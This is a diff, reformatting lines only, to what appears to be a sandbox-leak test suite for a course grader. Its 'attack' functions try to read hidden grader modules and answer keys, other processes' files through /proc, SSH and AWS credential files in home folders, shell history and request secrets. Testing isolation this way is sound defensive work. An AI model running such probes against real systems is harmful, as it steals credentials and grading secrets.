@@ -61,7 +61,8 @@ def judging_by_import(sheet: Sheet) -> None:
 
         def attempt(*args):
             sys.meta_path[:] = [each for each in sys.meta_path if type(each).__name__ != "Refuse"]
-            for name in ("course_grader.judging", "course_chapters.ch01.exercises.judges.state_13b", "course_grader.judge.decision"):
+            for name in ("course_grader.judging", "course_chapters.ch01.exercises.judges.state_13b",
+                    "course_grader.judge.decision"):
                 try:
                     loot(vars(importlib.import_module(name)), whole=True)
                 except ImportError:
@@ -162,7 +163,8 @@ def memory_of_its_own_process(sheet: Sheet) -> None:
                         except OSError:
                             pass
             held = [name for name in sys.modules if "judg" in name] + [
-                type(each).__name__ for each in gc.get_objects() if type(each).__name__ in ("Judging", "DrillKey", "Mistake", "ClassFolder", "Exercise")]
+                type(each).__name__ for each in gc.get_objects() if type(each).__name__ in ("Judging", "DrillKey",
+                    "Mistake", "ClassFolder", "Exercise")]
             loot(held or "", whole=True)""")
 
 
@@ -193,7 +195,8 @@ def folders_of_other_processes(sheet: Sheet) -> None:
 
         def attempt(*args):
             for pid in (1, os.getppid(), AT["judge"], AT["victim"], "self"):
-                for way in (f"/proc/{pid}/root{AT['class']}/.secret", f"/proc/{pid}/fd/{AT['fd']}", f"/proc/{pid}/root/{AT['root']}/open.txt",
+                for way in (f"/proc/{pid}/root{AT['class']}/.secret", f"/proc/{pid}/fd/{AT['fd']}",
+                    f"/proc/{pid}/root/{AT['root']}/open.txt",
                             f"/proc/{pid}/cwd/solutions/01_three_walls/01_three_walls.ipynb"):
                     try:
                         found = seen(way)
@@ -212,7 +215,8 @@ def home_folder(sheet: Sheet) -> None:
         def attempt(*args):
             homes = {os.environ.get("HOME", ""), AT["home"], "/root", *map(str, pathlib.Path("/home").glob("*"))}
             for home in sorted(homes - {os.getcwd(), ""}):
-                for name in (".netrc", ".ssh/id_ed25519", ".bash_history", ".aws/credentials", ".gitconfig", ".bashrc", ".profile"):
+                for name in (".netrc", ".ssh/id_ed25519", ".bash_history", ".aws/credentials", ".gitconfig", ".bashrc",
+                        ".profile"):
                     try:
                         found = seen(f"{home}/{name}")
                     except OSError:
@@ -318,7 +322,8 @@ def history_of_the_shell(sheet: Sheet) -> None:
             place = pathlib.Path(shell.ipython_dir)
             for path in place.rglob("*history*"):
                 loot(path.read_bytes()[:500], whole=path.stat().st_size > 0)
-            loot(list(shell.history_manager.get_tail(50, include_latest=False)) if shell.history_manager.enabled else "")""")
+            loot(list(shell.history_manager.get_tail(50,
+                include_latest=False)) if shell.history_manager.enabled else "")""")
 
 
 @attack("leak")
@@ -385,7 +390,8 @@ def secrets_in_the_request(sheet: Sheet) -> None:
                 request = frame.f_locals.get("request")
                 if isinstance(request, dict):
                     loot(request)
-                    extra = set(request) - {"do", "probe", "names", "hides", "args", "kwargs", "source", "grade_id", "folder"}
+                    extra = set(request) - {"do", "probe", "names", "hides", "args", "kwargs", "source", "grade_id",
+                        "folder"}
                     loot(sorted(extra & {"secret", "want", "seed", "cases", "points"}) or "", whole=True)
                 frame = frame.f_back
             return 0.0""")
